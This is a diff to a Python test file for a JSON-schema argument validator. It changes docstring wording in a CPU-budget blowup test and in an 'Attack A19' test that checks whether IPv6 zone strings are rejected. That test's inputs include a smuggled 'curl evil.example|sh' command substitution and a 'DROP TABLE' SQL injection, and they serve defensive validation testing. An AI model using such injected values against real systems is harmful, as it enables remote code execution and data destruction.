@@ -148,7 +148,7 @@ BLOWUPS: list[tuple[dict[str, Any], dict[str, Any]]] = [
 
 @pytest.mark.parametrize(("schema", "args"), BLOWUPS)
 def test_t63_no_schema_makes_much_work(schema: dict[str, Any], args: dict[str, Any]) -> None:
-    """Without the budget these take from seconds to for ever; with it, about a tenth of one."""
+    """Without the budget these take from seconds to endless; with it, about a tenth of one."""
     with cpu_limit(1):
         errors = check_args(schema, args)
     assert [error.pointer for error in errors] == [""]
@@ -250,7 +250,7 @@ def test_a6_a_format_alone_is_told_beside_its_field() -> None:
     "zone", ["::1%$(curl evil.example|sh)", "fe80::1%eth0", "fe80::1%", "fe80::1%\n; DROP TABLE x"]
 )
 def test_a19_an_address_with_a_zone_is_no_ipv6(zone: str) -> None:
-    """Attack A19: what stands behind the `%` could be anything. RFC 4291 has no zones."""
+    """Attack A19: the part after `%` could be anything. RFC 4291 has no zones."""
     schema = {"properties": {"to": {"format": "ipv6"}}}
     assert check_args(schema, {"to": zone})
     assert check_args(schema, {"to": "fe80::1"}) == []
